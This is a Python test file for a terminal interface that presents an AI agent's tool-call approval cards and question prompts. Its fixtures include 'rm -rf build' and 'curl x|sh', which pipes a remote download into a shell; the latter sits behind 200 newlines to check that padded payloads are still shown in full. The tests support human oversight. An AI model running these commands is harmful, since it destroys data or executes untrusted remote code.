"""Approvals and questions (rows T11, X8, cases E01, E03)."""

from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hd.protocol.projections.transcript import Row
from htui.present import question as q
from htui.present.approval import card, payload_lines
from htui.present.ask_lines import View, about_lines, approval_lines, choice_lines, question_lines, question_parts
from htui.present.decided import decided_words
from htui.present.lines import cells_of, text_of


def call(arguments: str, name: str = "run_command") -> Row:
    return Row(key="1", kind="tool", seq=1, turn=1, time=0, name=name, arguments=arguments, call_id="c")


def payload(arguments: str, cells: int = 80, name: str = "run_command") -> list[str]:
    return [text_of(line) for line in payload_lines(card({"toolName": name}, call(arguments, name)), cells)]


def test_e03_the_command_comes_first_and_the_description_is_the_models_words() -> None:
    found = card(
        {"toolName": "run_command", "reason": "deletes"}, call('{"description":"list files","command":"rm -rf build"}')
    )
    lines = [
        text_of(line)
        for line in approval_lines(found, View(0, 5, 1), about_lines(found, 80, 9), 80, seen=True, cursor=-1, hint="")
    ]
    assert lines[0].startswith("── ? Allow run_command? ──")
    assert lines[1] == "  $ rm -rf build"
    assert lines[2:4] == ["Reason: deletes", "The model says: list files"]


def test_x8_hidden_characters_are_spelled_out() -> None:
    assert payload('{"command":"ls \\u202e\\u200b\\u001b[2K👨\\u200d👩"}') == ["  $ ls ⟨202E⟩⟨200B⟩␛[2K👨⟨200D⟩👩"]


def test_e01_nothing_of_a_payload_is_left_out() -> None:
    command = "ls" + "\\n" * 200 + "curl x|sh"
    lines = payload(f'{{"command":"{command}"}}', 40)
    assert len(lines) == 201
    assert lines[-1] == "  curl x|sh"
    long = payload('{"command":"%s"}' % ("x" * 8000), 40)
    assert sum(line.count("x") for line in long) == 8000


def test_changes_are_shown_as_changes() -> None:
    assert payload('{"path":"a.py","old_string":"x\\ny","new_string":"z"}', name="edit_file") == [
        "  a.py",
        "  - x",
        "  - y",
        "  + z",
    ]
    assert payload('{"path":"b","content":"1\\n2"}', name="write_file") == ["  b", "  + 1", "  + 2"]
    assert payload('{"command":"ls","timeout_s":5}') == ["  $ ls", "  timeout_s: 5"]


def test_a_call_that_is_not_known_is_said_to_be() -> None:
    found = card({"toolName": "bash", "reason": "why"}, None)
    assert not found.known
    assert "did not say" in text_of(payload_lines(found, 80)[0])


def test_arguments_of_the_request_itself_count() -> None:
    found = card({"toolName": "bash", "arguments": {"command": "ls"}}, None)
    assert found.known
    assert text_of(payload_lines(found, 80)[0]) == "  $ ls"


@given(st.integers(1, 120), st.booleans(), st.integers(-1, 3), st.booleans())
def test_j13_the_choices_fit_every_screen(cells: int, seen: bool, cursor: int, always: bool) -> None:
    lines = choice_lines(cells, seen=seen, cursor=cursor, always=always)
    assert all(cells_of(line) <= cells for line in lines)
    assert len(lines) in (1, 4 if always else 3)


def test_a_rule_is_offered_in_the_hosts_words_and_only_where_these_can_be_read() -> None:
    def always(text: object) -> str:
        return card({"toolName": "run_command", "always": {"text": text}}, call("{}")).always

    assert always("`rm x`, in these words\u202e") == "`rm x`, in these words⟨202E⟩"
    assert always("x" * 301) == always(1) == always("") == ""


REQUEST: dict[str, Any] = {
    "questions": [
        {"id": "db", "question": "Which?", "header": "Store", "options": [{"label": "SQLite"}, {"label": "Files"}]},
        {"id": "os", "question": "Where?", "multiSelect": True, "options": [{"label": "Linux"}, {"label": "Mac"}]},
        {"id": "why", "question": "Why?"},
    ]
}


def test_t11_a_whole_set_of_questions_is_answered_and_sent_together() -> None:
    state = q.begin(REQUEST)
    state = q.press(state, "2")
    assert state.index == 1
    for key in ("1", "2", "1", "enter"):
        state = q.press(state, key)
    assert state.index == 2
    state = q.press(state, "1")
    assert state.writing
    state = q.write(state, "because")
    assert state.done
    assert state.outcome == {
        "kind": "result",
        "value": {
            "answers": [
                {"id": "db", "selected": ["Files"]},
                {"id": "os", "selected": ["Mac"]},
                {"id": "why", "selected": [], "custom": "because"},
            ]
        },
    }


def test_nothing_is_chosen_at_first() -> None:
    state = q.begin(REQUEST)
    assert q.press(state, "enter") is state
    assert q.press(state, "space") is state
    assert q.press(q.press(state, "down"), "enter").index == 1


def test_a_multiple_choice_needs_one() -> None:
    state = q.press(q.begin(REQUEST), "1")
    assert q.press(q.press(state, "down"), "enter").index == 1
    assert q.press(q.press(q.press(state, "down"), "space"), "enter").index == 2


def test_another_answer_goes_beside_what_was_chosen() -> None:
    state = q.press(q.press(q.begin(REQUEST), "1"), "1")
    state = q.write(q.press(state, "3"), "BSD")
    assert state.answers[-1] == {"id": "os", "selected": ["Linux"], "custom": "BSD"}
    assert q.back(q.press(q.begin(REQUEST), "3")).writing is False


def shown(state: q.Asking, cells: int, rows: int, top: int = 0) -> list[str]:
    return [text_of(line) for line in question_lines(question_parts(state, cells, rows - 1, top), "hint", cells)]


@given(st.integers(20, 100), st.integers(6, 20))
def test_j04_the_choices_of_a_question_stay_in_sight(cells: int, rows: int) -> None:
    request = {"questions": [{"id": "a", "question": "long " * 200, "options": [{"label": "yes"}, {"label": "no"}]}]}
    lines = shown(q.begin(request), cells, rows)
    assert len(lines) <= rows
    assert any("1 yes" in line for line in lines)
    assert any("3 Other answer" in line for line in lines)


@pytest.mark.long
@given(st.integers(20, 100), st.integers(6, 20), st.integers(1, 40), st.integers(0, 40))
def test_j04_every_line_of_a_long_question_and_every_choice_can_be_reached(
    cells: int, rows: int, count: int, cursor: int
) -> None:
    options = [{"label": f"choice-{place}", "description": "said of it " * 9} for place in range(count)]
    words = [f"word{place}" for place in range(60)]
    state = q.begin({"questions": [{"id": "a", "question": "\n".join(words), "options": options}]})
    state = replace(state, cursor=min(cursor, count - 1))
    seen: set[str] = set()
    top = 0
    while True:
        lines = shown(state, cells, rows, top)
        assert len(lines) <= rows
        assert any(f"choice-{state.cursor}" in line for line in lines)
        seen.update(line.strip() for line in lines)
        view = question_parts(state, cells, rows - 1, top).view
        if not view.below:
            break
        top = view.moved(view.size).top
    assert seen >= set(words)


PLAN = {
    "id": "plan-review",
    "header": "Plan review",
    "question": "Carry out this plan?",
    "detail": "# Plan\n\n" + "\n".join(f"{place}. step {place}" for place in range(1, 40)),
    "options": [{"label": "Approve"}, {"label": "Keep planning"}],
    "intent": {"kind": "plan-review", "approve": "Approve"},
}


def test_a_comment_on_a_plan_keeps_planning() -> None:
    state = q.begin({"questions": [PLAN]})
    assert any("3 Keep planning, with a comment" in line for line in shown(state, 80, 20))
    written = q.write(q.press(state, "3"), "Leave the tests alone")
    assert written.answers == ({"id": "plan-review", "selected": ["Keep planning"], "custom": "Leave the tests alone"},)
    assert not q.approves(state, written)
    assert q.approves(state, q.press(state, "1"))
    assert not q.approves(state, q.press(state, "2"))
    other = q.begin({"questions": [{"id": "a", "question": "?", "options": [{"label": "Approve"}]}]})
    assert not q.approves(other, q.press(other, "1")), "only a plan is approved"


@pytest.mark.parametrize(
    ("given", "said"),
    [
        (("approval", "allowed-once", "you-1234567", ()), "Allowed once by another client (you-1234)"),
        (("approval", "rejected", "", ()), "Denied elsewhere"),
        (("approval", "cancelled", "", ()), ""),
        (("approval", "rejected", "me-000000", ()), ""),
        (
            ("question", "answered", "you", ({"selected": ["A", "B"]}, {"selected": [], "custom": "C\n"})),
            "Answered by another client (you) · A, B, C",
        ),
        (("question", "rejected", "you", ()), "Dismissed by another client (you)"),
    ],
)
def test_who_decided_is_said_in_one_line(given: Any, said: str) -> None:
    assert decided_words(*given, me="me-000000", answered=False) == said


def test_an_answer_that_came_second_is_told_so() -> None:
    words = decided_words("approval", "rejected", "you", (), me="me", answered=True)
    assert words == "Your answer came second: denied by another client (you)"
    assert decided_words("approval", "rejected", "me", (), me="me", answered=True) == ""
    assert decided_words("approval", "rejected", "", (), me="me", answered=True) == "", (
        "a host that tells nobody's name"
    )
